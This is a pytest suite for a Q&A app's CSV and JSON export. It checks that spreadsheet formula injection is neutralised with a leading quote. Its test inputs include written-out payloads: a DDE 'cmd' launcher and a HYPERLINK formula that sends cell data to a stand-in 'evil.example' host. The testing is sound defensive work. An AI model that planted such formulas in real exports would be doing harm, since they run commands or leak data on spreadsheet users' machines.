"""Exports of a session's Q&A: CSV that spreadsheets read as plain text, and JSON."""

from __future__ import annotations

import csv
import io
import json

import pytest

from gallery.records import EXPORT_FIELDS, FORMATS, SqlRecords, render, to_csv, to_json


def row(**changes: object) -> dict[str, object]:
    """A typical export row with `changes` applied."""
    base: dict[str, object] = {
        "id": 1,
        "session": "keynote",
        "status": "open",
        "votes": 3,
        "name": "Ada",
        "text": "Why?",
        "created_at": "2026-05-20T10:00:00+00:00",
        "updated_at": "2026-05-20T10:01:00+00:00",
    }
    return {**base, **changes}


def read_csv(text: str) -> list[dict[str, str]]:
    """Parse CSV text as a spreadsheet importer would."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_has_a_header_and_one_line_per_question() -> None:
    text = to_csv([row(), row(id=2, text="Another", votes=0)])
    assert text.splitlines()[0] == ",".join(EXPORT_FIELDS)
    assert text.endswith("\r\n")
    parsed = read_csv(text)
    assert [(r["id"], r["text"], r["votes"]) for r in parsed] == [
        ("1", "Why?", "3"),
        ("2", "Another", "0"),
    ]


def test_csv_of_no_question_is_the_header_alone() -> None:
    assert to_csv([]) == ",".join(EXPORT_FIELDS) + "\r\n"


def test_csv_keeps_commas_quotes_and_newlines_inside_one_cell() -> None:
    hostile = 'He said "no", then\nleft;\r\nbye, all'
    parsed = read_csv(to_csv([row(text=hostile, name='O"Brien, Jr.')]))
    assert len(parsed) == 1
    assert parsed[0]["text"] == hostile
    assert parsed[0]["name"] == 'O"Brien, Jr.'


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?"&A1, "click")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_defuses_text_a_spreadsheet_would_run_as_a_formula(text: str) -> None:
    """A cell starting with = + - @ tab or CR gets a leading quote, so it is shown, not run."""
    parsed = read_csv(to_csv([row(text=text, name=text)]))
    assert parsed[0]["text"] == "'" + text
    assert parsed[0]["name"] == "'" + text


def test_csv_leaves_ordinary_text_and_numbers_alone() -> None:
    parsed = read_csv(to_csv([row(text="1 = 1? Yes, a=b", votes=-1)]))
    assert parsed[0]["text"] == "1 = 1? Yes, a=b"
    # Only text is defused: counts and ids are the gallery's own numbers.
    assert parsed[0]["votes"] == "-1"


def test_json_is_the_rows_as_given() -> None:
    rows = [row(text='=cmd <script>"x"</script> 質問'), row(id=2)]
    text = to_json(rows)
    assert text.endswith("\n")
    assert json.loads(text) == rows


def test_render_picks_the_format() -> None:
    assert FORMATS == ("csv", "json")
    rows = [row()]
    assert render(rows, "csv") == to_csv(rows)
    assert render(rows, "json") == to_json(rows)
    with pytest.raises(ValueError, match="format must be one of csv, json"):
        render(rows, "xlsx")


def test_a_stored_session_exports_to_both_formats(store: SqlRecords) -> None:
    """What visitors typed, hostile or not, comes out of the store and into both formats."""
    asked = store.add_question("keynote", "v1", "=Mallory", '=1+1, "quoted"\nline')
    store.vote(asked.id, "v2")
    rows = store.export("keynote")
    assert read_csv(to_csv(rows))[0]["text"] == '\'=1+1, "quoted"\nline'
    assert read_csv(to_csv(rows))[0]["name"] == "'=Mallory"
    assert json.loads(to_json(rows))[0]["text"] == '=1+1, "quoted"\nline'
    assert json.loads(to_json(rows))[0]["votes"] == 1
